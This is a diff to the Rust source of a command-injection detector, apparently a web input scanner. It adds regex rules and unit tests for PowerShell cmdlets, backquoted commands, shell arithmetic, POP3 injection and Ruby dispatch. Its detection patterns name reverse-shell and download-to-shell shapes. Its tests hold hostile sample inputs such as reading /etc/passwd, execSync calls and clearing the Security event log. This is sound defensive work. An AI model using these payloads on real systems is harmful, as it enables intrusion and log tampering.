         let strong = strong_commands();
-        // An argument shape: option (also after a subcommand: `install -y`), path (also `C:\`),
-        // variable, redirection, glob, or end of the value. A `+`
+        // An argument shape: option (also after a subcommand: `install -y`), path (also `C:\`
+        // and a share, `\\host`), variable, redirection, glob, an operand (`if=/dev/sda`), a
+        // login (`root@10.0.0.1`), or end of the value. A `+`
         // separates words where the value is URL-encoded form data (`;cat+/etc/passwd`).
         // `ends` are the separators that may close the command (`;id;`, `|id|`).
-        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+(?:[^\s;|&/<>]+[\s+]+){{1,3}}/[a-z?]{{1,12}}(?::\S*)?(?:[\s+]|$)|[\s+]+hk(?:lm|cu|cr|u|cc|ey_[a-z_]+)[\\:]|[\s+]+(?:[0-7]{{3,4}}|[ugoa]*[-+=][rwxst]+)[\s+]+\S|[\s+]+(?:install|add|remove|uninstall|run|exec|require|upgrade|apply)[\s+]+[a-z0-9@/._-]+(?:[\s+]*[;|&]|[\s+]+-|[\s+]*$)|[\s+]+[a-z]:[\\/]|[\s+]+\d{{1,3}}(?:\.\d{{1,3}}){{3}}(?:[\s:/]|$)|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
+        let arg = |ends: &str| format!(r#"(?:[\s+]+[-/~.$<>*?{{%"']|[\s+]+(?:[^\s;|&/<>]+[\s+]+){{1,3}}/[a-z?]{{1,12}}(?::\S*)?(?:[\s+]|$)|[\s+]+hk(?:lm|cu|cr|u|cc|ey_[a-z_]+)[\\:]|[\s+]+(?:[0-7]{{3,4}}|[ugoa]*[-+=][rwxst]+)[\s+]+\S|[\s+]+(?:install|add|remove|uninstall|run|exec|require|upgrade|apply)[\s+]+[a-z0-9@/._-]+(?:[\s+]*[;|&]|[\s+]+-|[\s+]*$)|[\s+]+[a-z]:[\\/]|[\s+]+\\\\[a-z0-9]|[\s+]+[a-z_]{{1,12}}=[/~$\\]|[\s+]+[a-z0-9._-]+@(?:\d{{1,3}}(?:\.\d{{1,3}}){{3}}|[a-z0-9-]+(?:\.[a-z0-9-]+)+)(?::\S*)?(?:[\s+]|$)|[\s+]+\d{{1,3}}(?:\.\d{{1,3}}){{3}}(?:[\s:/]|$)|[\s+]+[a-z][a-z0-9_-]*[\s+]+--?[a-z]|\s*[<>{ends}`)]|\s+[a-z0-9_.-]+\s*[{ends}<>`)]|\s+[a-z0-9_-]+\.[a-z0-9]{{1,5}}(?:\s|$)|\s*$)"#);
         // A backquote is not a separator here: Markdown uses it for inline code; substitution is
         // matched on its own below.
-        let sep = r"(?:[;|\n\r]|&&|&|\$\(|<\(|\|\|)";
+        let sep = r"(?:[;|\n\r]|&&|&|\$\(|[<>]\(|\|\|)";
         // A line break separates commands in a script, but also the lines of a document, a log
         // or a stack trace (`\n  File "/app/main.py", line 3`): in a JSON text field a command
         // word opening a line is only Medium; `;`, `|`, `&&` and `$(` inside a line stay strong.
@@ -481,7 +588,7 @@ impl Cmdi {
         let in_line = in_line.strip_suffix(r"|\s*$)").map(|a| format!("{a})")).unwrap_or(in_line.clone());
         let strong_after_sep = format!(
             r"{}|{}|\s&(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{}|\s&\s+(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})(?:\.exe)?\b{in_line}",
-            command_after(&format!(r"(?:;|&&|{glued_amp}|\$\(|<\(|\|\|)"), &arg("|;&")),
+            command_after(&format!(r"(?:;|&&|{glued_amp}|\$\(|[<>]\(|\|\|)"), &arg("|;&")),
             command_after(r"\|", &arg(";&")),
             arg("|;&"),
         );
@@ -490,7 +597,7 @@ impl Cmdi {
         // URL or an option, or to be a reconnaissance command ending the value (`x & whoami`).
         let probes = PROBES.join("|");
         let any_after_sep = format!(
-            r#"(?:[;|\n\r]|&&|{glued_amp}|\$\(|<\(|\|\|)\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)|\s&(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)|\s&\s+(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:\s*[;|&)]|\s+[-/$~.<>'"\\]|\s+\S*[./:\\]\S*)|\s&\s+(?:{probes})(?:\.exe)?\s*$"#
+            r#"(?:[;|\n\r]|&&|{glued_amp}|\$\(|[<>]\(|\|\|)\s*(?:[{{(]\s*)?(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)|\s&(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:[\s)]|$)|\s&\s+(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})(?:\.exe)?(?:\s*[;|&)]|\s+[-/$~.<>'"\\]|\s+\S*[./:\\]\S*)|\s&\s+(?:{probes})(?:\.exe)?\s*$"#
         );
         let wrapped = format!(r"(?:^|{sep})\s*(?:sudo|nohup|strace|ltrace|nice|timeout\s+\d+[a-z]?|time|env|exec|xargs|watch|busybox)\s+(?:-\S+\s+)*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{DANGEROUS})\b");
         // `x ;top`, `;ls`: a separator glued to the command after it but not to the word before
@@ -520,6 +627,11 @@ impl Cmdi {
         let delay = format!(r"{sep}\s*(?:sleep\s+\d+(?:\.\d+)?[smhd]?|timeout\s+/t\s+\d+)\s*(?:$|[;|&#`)])");
         // PowerShell cmdlets that run, fetch or reach the system (`Invoke-Expression`,
         // `Get-ChildItem`, `New-Object Net.WebClient`), and `iex`/`iwr` in their code shapes.
+        let cmdlets = MORE_CMDLETS.join("|");
+        // A command in backquotes glued to what precedes it (`x=`id``, `"`uname`"`), or as the
+        // whole value (`` `cat /etc/hosts` ``): Markdown's inline code stands apart, in a sentence.
+        let backquoted = format!(r"(?:[^\s`(\[*_]|^\s*)`\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b[^`]*`(?:\s*$|[^\s])|^\s*`\s*(?:/(?:usr/)?(?:local/)?s?bin/)?(?:{strong})\b[^`]*`\s*(?:$|[;|&])");
+        let more_cmdlets = format!(r"(?:{sep}|`|\bpowershell(?:\.exe)?\s+(?:-[a-z]+\s+)*)\s*(?:{cmdlets})\b");
         let powershell = format!(r"(?:^|{sep}|`|\bpowershell(?:\.exe)?\s+(?:-[a-z]+\s+)*)\s*(?:{POWERSHELL_CMDLETS})\b|\|\s*iex\b|\biex\s*\(\s*(?:new-object|iwr|irm|invoke-|\(|\[|\$)|\b(?:iwr|irm)\s+(?:-uri\s+)?https?://");
         // `&wevtutil cl system`, `|netsh firewall set opmode disable`: Windows administration
         // tools, no word of any language, take plain words as arguments.
@@ -536,7 +648,7 @@ impl Cmdi {
             // `0>&1` ties the shell's input to its output socket; `2>&1` is every script's stderr.
             (r"/dev/(?:tcp|udp)/|\b(?:bash|sh)\s+-i\b|\bnc(?:at)?\b[^|;]*\s-[a-z]*e\s|\bmkfifo\b|(?:^|[^0-9])0>&\d|\bexec\s+\d*<>", Critical, 0.95, "reverse shell"),
             (r"\b(?:curl|wget|fetch)\b[^|;]*\|\s*(?:ba|z|k)?sh\b", Critical, 0.95, "download piped to a shell"),
-            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*(?:\.\s*|\[\s*['`\x22])constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b|\bfunction\s*\(\s*['`\x22][^'`\x22]*['`\x22]\s*\)\s*\(|\breflect\s*\.\s*(?:construct|apply)\s*\(\s*(?:function|eval)\b|\b(?:exec|execfile|spawn)sync\s*\(|\$[0-9a-z@]*:(?:[a-z_$][\w$]*:)*constructor\b)", High, 0.85, "server-side JavaScript code injection"),
+            (r"(?:require\s*\(\s*['`]child_process['`]\s*\)|child_process|process\s*\.\s*(?:mainmodule|binding|\[)|process\[|process\s*\[\s*['`\x22]|_\$\$nd_func\$\$_|\bconstructor\s*(?:\.\s*|\[\s*['`\x22])constructor\b|\brequire\s*\.\s*main\b|\brequire\s*\[|__js_function|\beval\s*\(\s*string\s*\.\s*fromcharcode|\beval\s*\(\s*(?:atob|unescape|decodeuricomponent|buffer\s*\.\s*from|require|process)\b|\bfunction\s*\((?:\s*['`\x22][^'`\x22]*['`\x22]\s*[+,]?)+\)\s*\(|\breflect\s*\.\s*(?:construct|apply)\s*\(\s*(?:function|eval)\b|\b(?:exec|execfile|spawn)sync\s*\(|\$[0-9a-z@]*:(?:[a-z_$][\w$]*:)*constructor\b)", High, 0.85, "server-side JavaScript code injection"),
             (JS_CODE, Medium, 0.6, "JavaScript code"),
             (RUBY_CODE, Medium, 0.6, "Ruby code"),
             (windows_admin.as_str(), High, 0.85, "Windows administration tool after a shell separator"),
@@ -578,12 +690,16 @@ impl Cmdi {
             // `@{[ system 'id' ]}` runs a list, `${\ `id`}` a scalar reference, inside a Perl string.
             (r"@\s*\{\s*\[.*\]\s*\}?|@\{\[|\$\{\s*\\\s*(?:\(|`|[a-z_:]+\s*[(`'\x22])", High, 0.8, "Perl interpolation"),
             (r"(?:\r?\n|^)\s*(?:mail\s+from|rcpt\s+to)\s*:|\r?\n\s*(?:helo|ehlo|vrfy|expn)\s+[a-z0-9<@.-]|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:authenticate|uid|login|expunge|lsub|capability|logout|starttls|getquota|getquotaroot|setquota|getacl|setacl|myrights|listrights)\b|\r?\n\s*[a-z]{1,4}\d{1,4}\s+(?:append|status|select|examine|fetch|store|create|delete|rename|subscribe|unsubscribe|list|copy|move|search)\s+[^\r\n]*?(?:\binbox\b|[({\x22\\]|\d:|[+-]flags)", High, 0.75, "SMTP/IMAP command injection"),
+            // Each a whole line in POP3's own shape (a message number, a login pair, an MD5
+            // digest, a SASL mechanism), which a line of prose (`List of items`) is not.
+            (r"\r?\n\s*(?:(?:retr|dele|list|uidl)\s+\d+|top\s+\d+\s+\d+|user\s+\S+\s*\r?\n\s*pass\s+\S+|apop\s+\S+\s+[0-9a-f]{32}|auth\s+(?:plain|login|cram-md5|digest-md5|xoauth2|oauthbearer|gssapi|ntlm|external|anonymous|scram-sha-[0-9a-z-]+)(?:\s+[a-z0-9+/]+={0,2})?)\s*(?:\r?\n|$)", High, 0.75, "POP3 command injection"),
             (sqlite.as_str(), High, 0.8, "SQLite shell command"),
             (delay.as_str(), High, 0.8, "delay command after a shell separator"),
             (powershell.as_str(), High, 0.85, "PowerShell command"),
         ];
         let probe = format!(r"^\s*(?:{})(?:\.exe)?\s*$", PROBES.join("|"));
         Ok(Cmdi {
+            leading_cmdlet: super::regex(&format!(r#"^\s*(?:{cmdlets})(?:\s*$|\s+-[a-z]|\s*[|;]|\s+["'$@(\\/.]|\s+[a-z]:\\)"#))?,
             rules: Rules::new(Family::Cmdi, &table)?,
             strict_rules: Rules::new(
                 Family::Cmdi,
@@ -596,6 +712,13 @@ impl Cmdi {
                     // Ansible, Chef and CrowdSec consoles run anything on every managed host;
                     // their hyphenated names are no word of prose.
                     (AUTOMATION_TOOL, High, 0.7, "automation tool command line"),
+                    (&more_cmdlets, High, 0.8, "PowerShell cmdlet after a shell separator"),
+                    (&backquoted, High, 0.8, "command substitution"),
+                    // `$((1+1))`: only a shell evaluates arithmetic so, the probe of an injection.
+                    (r"\$\(\([^()]{0,32}[-+*/%^&|<>][^()]{0,32}\)\)", High, 0.7, "shell arithmetic expansion"),
+                    // `x; /usr/bin/anything`: a program run from a system binary directory after
+                    // a separator (the path alone is a setting: `/usr/bin/python3`).
+                    (r"(?:[;|\n`]|&&|&|\$\(|[<>]\()\s*/(?:usr/)?(?:local/)?s?bin/[a-z0-9_.+-]+", High, 0.8, "program in a system binary directory after a shell separator"),
                     (&probe, High, 0.75, "reconnaissance command as the whole value"),
                     // `& start calc.exe`, `;payload.bat`: an executable run by its file name.
                     (r#"(?:;|&&|&|\||\$\(|`)\s*(?:start\s+(?:/[a-z]+\s+)*)?(?:"[^"]*\.(?:exe|bat|cmd|ps1|vbs|hta|scr)"|[a-z0-9_\\:.-]+\.(?:exe|bat|cmd|ps1|vbs|hta|scr))(?:\s|$)"#, High, 0.7, "executable run after a shell separator"),
@@ -684,6 +807,8 @@ impl Check for Cmdi {
             gated("`", substitution_opens),
             gated("$(", substitution_opens),
             gated("<(", command_follows),
+            gated(">(", command_follows),
+            lit("$(("),
             gated("\n", command_follows),
             gated("\r", command_follows),
             gated("{", brace),
@@ -730,6 +855,18 @@ impl Check for Cmdi {
             lit("z2xvymfsln"),
             lit("dsb2jhbc5w"),
             lit("nbg9iywwuc"),
+            lit("zxhly1n5bm"),
+            lit("v4zwntew5j"),
+            lit("legvju3luy"),
+            lit("c3bhd25tew"),
+            lit("nwyxduu3lu"),
+            lit("zcgf3bln5b"),
+            lit("uhjvy2vzcy"),
+            lit("byb2nlc3mu"),
+            lit("qcm9jzxnzl"),
+            lit("d2hpbguodh"),
+            lit("doawxlkhry"),
+            lit("3aglszsh0c"),
             lit("constructor"),
             lit("runinnewcontext"),
             lit("reflect."),
@@ -737,15 +874,77 @@ impl Check for Cmdi {
             gated("start-", starts_word),
             gated("new-", starts_word),
             gated("get-", starts_word),
+            // The verbs of [`MORE_CMDLETS`], each waking only on a whole cmdlet name.
+            gated("checkpoint-", cmdlet_follows),
+            gated("clear-", cmdlet_follows),
+            gated("compare-", cmdlet_follows),
+            gated("compress-", cmdlet_follows),
+            gated("connect-", cmdlet_follows),
+            gated("convert-", cmdlet_follows),
+            gated("convertfrom-", cmdlet_follows),
+            gated("convertto-", cmdlet_follows),
+            gated("copy-", cmdlet_follows),
+            gated("debug-", cmdlet_follows),
+            gated("disable-", cmdlet_follows),
+            gated("disconnect-", cmdlet_follows),
+            gated("enable-", cmdlet_follows),
+            gated("enter-", cmdlet_follows),
+            gated("exit-", cmdlet_follows),
+            gated("expand-", cmdlet_follows),
+            gated("export-", cmdlet_follows),
+            gated("find-", cmdlet_follows),
+            gated("foreach-object", cmdlet_follows),
+            gated("format-", cmdlet_follows),
+            gated("group-object", cmdlet_follows),
+            gated("import-", cmdlet_follows),
+            gated("install-", cmdlet_follows),
+            gated("join-path", cmdlet_follows),
+            gated("measure-", cmdlet_follows),
+            gated("move-", cmdlet_follows),
+            gated("out-", cmdlet_follows),
+            gated("pop-location", cmdlet_follows),
+            gated("protect-", cmdlet_follows),
+            gated("publish-", cmdlet_follows),
+            gated("push-location", cmdlet_follows),
+            gated("read-host", cmdlet_follows),
+            gated("receive-", cmdlet_follows),
+            gated("register-", cmdlet_follows),
+            gated("rename-", cmdlet_follows),
+            gated("reset-", cmdlet_follows),
+            gated("resolve-path", cmdlet_follows),
+            gated("restart-", cmdlet_follows),
+            gated("restore-", cmdlet_follows),
+            gated("resume-", cmdlet_follows),
+            gated("save-", cmdlet_follows),
+            gated("select-", cmdlet_follows),
+            gated("send-mailmessage", cmdlet_follows),
+            gated("show-", cmdlet_follows),
+            gated("sort-object", cmdlet_follows),
+            gated("split-path", cmdlet_follows),
+            gated("suspend-", cmdlet_follows),
+            gated("switch-process", cmdlet_follows),
+            gated("tee-object", cmdlet_follows),
+            gated("test-", cmdlet_follows),
+            gated("trace-command", cmdlet_follows),
+            gated("unblock-file", cmdlet_follows),
+            gated("undo-transaction", cmdlet_follows),
+            gated("uninstall-", cmdlet_follows),
+            gated("unprotect-", cmdlet_follows),
+            gated("unregister-", cmdlet_follows),
+            gated("update-", cmdlet_follows),
+            gated("use-transaction", cmdlet_follows),
+            gated("wait-", cmdlet_follows),
+            gated("where-object", cmdlet_follows),
+            gated("write-", cmdlet_follows),
+            gated("copy-item", starts_word),
+            gated("move-item", starts_word),
+            gated("out-file", starts_word),
+            gated("register-scheduledtask", starts_word),
+            gated("convertto-securestring", starts_word),
             gated("set-", starts_word),
             gated("add-", starts_word),
             gated("remove-", starts_word),
-            gated("out-file", starts_word),
-            gated("copy-item", starts_word),
-            gated("move-item", starts_word),
             gated("stop-", starts_word),
-            gated("register-scheduledtask", starts_word),
-            gated("convertto-securestring", starts_word),
             lit("%comspec%"),
             gated("iex", starts_word),
             gated("iwr", starts_word),
@@ -760,6 +959,11 @@ impl Check for Cmdi {
             gated("spawn", call_follows),
             gated("fork", call_follows),
             gated("while", call_follows),
+            lit(";;)"),
+            gated("send", call_follows),
+            gated("__send__", call_follows),
+            gated("public_send", call_follows),
+            lit("const_get"),
             lit("binding["),
             lit("binding ["),
             lit("kernel."),
@@ -896,7 +1100,11 @@ impl Check for Cmdi {
         let hidden = hidden_command(s.text.as_bytes()).map(|at| Hit::new(Family::Cmdi, High, 0.8, at, "command name hidden by shell quoting"));
         let hit = stronger(hit, hidden);
         if !is_json_text(s) {
-            return stronger(hit, self.strict_rules.best(s.text));
+            let hit = stronger(hit, self.strict_rules.best(s.text));
+            // `Get-Date`, `Format-Table -Auto`: PowerShell's spelling, not a slug (`get-date`).
+            let capitalized = s.raw.trim_start().as_bytes().first().is_some_and(u8::is_ascii_uppercase);
+            let leading = capitalized && self.leading_cmdlet.is_match(s.text);
+            return stronger(hit, leading.then(|| Hit::new(Family::Cmdi, High, 0.75, 0, "PowerShell cmdlet opening the value")));
         }
         // A command quoted as Markdown code in a docs page or ticket is documentation.
         hit.map(|h| {
@@ -975,6 +1183,103 @@ mod tests {
         // In a JSON text field they are a snippet, reported below the flag line.
         for v in ["const data = fs.readFileSync('./config.json')", "while(true) { poll(); }", "Process.spawn('ls')"] {
             assert!(!any_flag_in_json(v), "{v}");
+        }
+    }
+
+    #[test]
+    fn ruby_methods_sent_by_name_endless_for_and_function_from_pieces() {
+        use crate::fields::{Part, ValueType};
+        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
+        for v in [
+            "Kernel.send(:system, 'id')",
+            "x.__send__(:exec, \"ls\")",
+            "obj.public_send(:eval, params[:c])",
+            "Object.const_get(:Kernel).exec('id')",
+            "const_get('IO').popen('id')",
+            "for(;;){}",
+            "for ( ; ; ) ;",
+        ] {
+            assert!(at(Part::Query, v), "{v}");
+            assert!(at(Part::Body, v), "{v} in a form field");
+        }
+        for v in ["send(:email)", "please send (asap)", "send :system notes", "const_get(:Config)", "for (a; b; c)", "for (;) typo", "for (;;) loops explained"] {
+            assert!(!at(Part::Query, v), "{v}");
+        }
+        // `Function('a' + 'b')()`: code built from strings and run; a function expression is not.
+        assert!(at(Part::Query, "Function('ale'+'rt(1)')()") && at(Part::Query, "Function(\"a\", \"return a\")(1)"));
+        assert!(!at(Part::Query, "(function (a, b) { return a })(1)"));
+        // In a JSON text field, Ruby is a snippet.
+        assert!(!any_flag_in_json("Kernel.send(:system, 'ls')"));
+    }
+
+    #[test]
+    fn powershell_cmdlets_and_programs_by_their_path() {
+        use crate::fields::{Part, ValueType};
+        assert!(super::MORE_CMDLETS.windows(2).all(|w| w[0] < w[1]));
+        let triggers: Vec<String> = super::super::Check::triggers(&super::Cmdi::new().unwrap()).iter().map(|t| t.lit.to_string()).collect();
+        assert!(super::MORE_CMDLETS.iter().all(|c| triggers.iter().any(|t| c.starts_with(t.as_str()))), "each cmdlet's verb has a trigger");
+        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
+        for v in ["; Clear-EventLog -LogName Security", "x|Format-Hex c:\\boot.ini", "powershell Get-LocalGroup", "Compress-Archive -Path c:\\data", "Get-Date", "&& Export-Clixml -Path x", "x;/usr/bin/anyprog", "a && /sbin/whatever -x", "x|/usr/local/bin/tool"] {
+            assert!(at(Part::Query, v), "{v}");
+            assert!(at(Part::Body, v), "{v} in a form field");
+        }
+        for v in ["get-date", "new-item", "read-host", "the get-help page", "Sort-of works", "Test-driven design", "Write-Host is not a thing here", "Get-Help center", "see /bin/ for tools", "/binary/file", "/usr/bin", "C:/bin/x", "/usr/bin/python3", "a;/binary"] {
+            assert!(!at(Part::Query, v), "{v}");
+        }
+        assert!(!any_flag_in_json("Get-Date | Format-Table"), "a PowerShell snippet in a JSON text");
+        assert!(!any_flag_in_json("cd /app; /usr/bin/make test"), "a shell line in a JSON text");
+    }
+
+    #[test]
+    fn process_substitution_into_a_command_and_arithmetic_expansion() {
+        for v in ["x >(cat /etc/passwd)", "a>(id)", "diff <(ls /) >(tee /tmp/x)", "$((7*191))", "x=$(( 1 + 1 ))"] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        for v in ["a >(b) c", "x>(5%)", "$(( price", "((see p. 5))", "$(x)", "it costs $((5)) dollars"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn operands_logins_and_shares_as_argument_shapes() {
+        for v in ["; dd if=/dev/zero of=/tmp/x", "x; ssh root@10.0.0.7", "| scp a.txt bob@files.example.org:/tmp", "& copy \\\\10.0.0.5\\s\\x.exe", "x && env HOME=/tmp sh"] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        for v in ["Tom; cat lovers unite", "see below; more=better", "x; mail me later", "a & b = c", "Price; date=2024-01-01", "meeting; set date=tomorrow", "ping me@example.com"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn backquoted_commands_glued_or_alone_and_more_programs() {
+        for v in ["`uname -a`", "x=`id`", "\"`whoami`\"", "a`cmp /etc/passwd /etc/hosts`", "$(pdksh)", "x&&gimp", ";octave -q", "; as -h", "|man /etc/passwd"] {
+            assert!(flags("attack.cmdi", v), "{v}");
+            assert!(flags_at("attack.cmdi", crate::fields::Part::Body, v), "{v} in a form field");
+        }
+        for v in ["run `ls` to list files", "(`git`) is a tool", "use `curl` or `wget`", "`git status` shows changes", "colors; red and blue", "hand-made; as usual", "yes; man overboard"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn powershell_aliases_after_a_separator() {
+        for v in ["; gci c:\\windows", "|saps -FilePath calc", "& ipmo .\\x.psm1", "; gwmi -Class win32_process", "x;sl c:\\", "; gc -Path c:\\boot.ini"] {
+            assert!(flags("attack.cmdi", v), "{v}");
+        }
+        for v in ["price; GBP 5", "we met; gin and tonic", "x; cli tools", "a; gps tracking", "notes; si senor"] {
+            assert!(!flags("attack.cmdi", v), "{v}");
+        }
+    }
+
+    #[test]
+    fn pop3_commands_on_their_own_lines() {
+        use crate::fields::{Part, ValueType};
+        let at = |part, v: &str| scan_at(part, ValueType::Text, "q", v).iter().any(|f| f.kind == "attack.cmdi" && f.weight() >= 0.5);
+        for v in ["x\r\nRETR 1", "\r\nDELE 3\r\n", "a\r\nUSER bob\r\nPASS hunter2", "\r\nTOP 1 10\r\n", "\r\nAPOP mrose c4c9334bac560ecc979e58001b3e22fb", "x\r\nAUTH PLAIN dGVzdAB0ZXN0AHRlc3Q="] {
+            assert!(at(Part::Body, v), "{v:?}");
+        }
+        for v in ["Shopping\r\nList\r\nmilk", "Steps:\r\nretrieve the parcel\r\n", "Dear user\r\npass the salt", "Top 10\r\nitems", "\r\nAuth required\r\n", "Chapter\r\nList 5 reasons why"] {
+            assert!(!at(Part::Body, v), "{v:?}");
         }
     }
 
@@ -1076,7 +1381,7 @@ mod tests {
     #[test]
     fn base64_markers_are_the_markers_encoded_at_each_alignment() {
         let mut expected = Vec::new();
-        for marker in [&b"_$$ND_FUNC$$_"[..], b"__js_function", b"child_process", b"process.mainModule", b"eval(String.fromCharCode", b"process.binding", b"this.constructor", b"new Function(", b"String.fromCharCode", b"module.exports", b"global.process"] {
+        for marker in [&b"_$$ND_FUNC$$_"[..], b"__js_function", b"child_process", b"process.mainModule", b"eval(String.fromCharCode", b"process.binding", b"this.constructor", b"new Function(", b"String.fromCharCode", b"module.exports", b"global.process", b"execSync(", b"spawnSync(", b"Process.spawn(", b"while(true)"] {
             for k in 0..3usize {
                 let mut bytes = vec![0u8; k];
                 bytes.extend_from_slice(marker);
@@ -1089,6 +1394,19 @@ mod tests {
         assert_eq!(super::BASE64_MARKERS, expected.iter().map(String::as_str).collect::<Vec<_>>().as_slice());
         let triggers: Vec<&str> = super::super::Check::triggers(&super::Cmdi::new().unwrap()).iter().map(|t| t.lit).collect();
         assert!(super::BASE64_MARKERS.iter().all(|m| triggers.contains(&&m[..10])), "each marker has its trigger");
+    }
+
+    #[test]
+    fn more_base64_wrapped_javascript() {
+        for payload in ["require('child_process').execSync('id')", "x=1;while(true){}", "Process.spawn('id')", "cp.spawnSync('sh')"] {
+            for pad in ["", "a", "ab"] {
+                let v = base64(format!("{pad}{payload}").as_bytes());
+                assert!(flags("attack.cmdi", &v), "{payload} at {pad:?}: {v}");
+            }
+        }
+        for v in [base64(b"while you wait, sync your files"), base64(b"{\"spawn\": true}"), "ZXhlY3V0aW9uIGxvZw==".to_string()] {
+            assert!(!flags("attack.cmdi", &v), "{v}");
+        }
     }
 
     #[test]
